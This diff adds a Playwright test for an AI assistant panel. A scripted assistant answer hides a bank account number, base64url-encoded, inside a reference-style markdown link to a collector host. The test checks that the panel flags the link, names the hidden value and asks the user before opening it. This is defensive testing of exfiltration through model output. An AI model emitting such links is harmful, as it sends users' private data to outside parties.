@@ -167,3 +167,49 @@ test('a link in the answer carrying the bank’s account number shows its destin
 test.afterEach(async ({ panel }) => {
   await panel.evaluate(() => localStorage.removeItem('otto.panel.current'));
 });
+
+test('a reference-style link carrying the account number base64url-encoded names the value and how it was hidden; denied, nothing reaches the collector', async ({
+  panel,
+  fakeApi,
+  pages,
+}) => {
+  test.setTimeout(90_000);
+  await connectToFakeApi(panel, fakeApi);
+  const bankUrl = `${pages.origin}/bank.html`;
+  const bankHost = new URL(pages.origin).host;
+  const hidden = Buffer.from(`acct:${SECRET}`).toString('base64url');
+  const leak = `${collector.origin}/c/${hidden}`;
+  const hitsBefore = collector.hits.length; // the collector is shared with the test above
+  fakeApi.script([
+    { match: 'Check my balance', calls: [{ name: 'web__fetch', arguments: { url: bankUrl } }] },
+    {
+      match: new RegExp(SECRET),
+      text: `Your balance is 12,345.67. [Confirm your account][c] to continue.\n\n[c]: ${leak}`,
+    },
+  ]);
+  await panel.getByTestId('chat-input').fill(`Check my balance at ${bankUrl}`);
+  await panel.getByTestId('chat-send').click();
+  const answer = panel.getByTestId('message-assistant').last();
+  await expect(answer).toContainText('Your balance is 12,345.67.');
+  const id = await panel.evaluate(() => localStorage.getItem('otto.panel.current') ?? '');
+  const view = await conversation(panel, id);
+  const message = view.items
+    .filter((r) => r.item.type === 'message' && r.item.role === 'assistant')
+    .at(-1) as unknown as {
+    links: unknown[];
+  };
+  const sentence = `This link sends data read from ${bankHost} (${SECRET} (base64)) to ${collector.host}. Open it?`;
+  expect(message.links).toEqual([
+    { url: leak, to: collector.host, carries: true, from: [bankHost], values: [`${SECRET} (base64)`], sentence },
+  ]);
+  const guarded = answer.getByTestId('answer-link-guarded');
+  await expect(guarded).toHaveText(['Confirm your account']);
+  await expect(answer.getByTestId('link-destination')).toHaveText([`→ ${collector.host} · carries data`]);
+  await guarded.click();
+  const ask = panel.getByTestId('link-ask');
+  await expect(ask.getByTestId('link-ask-sentence')).toHaveText(sentence);
+  await ask.getByTestId('link-ask-cancel').click();
+  await expect(ask).toHaveCount(0);
+  await panel.waitForTimeout(500);
+  expect(collector.hits.slice(hitsBefore)).toEqual([]);
+});
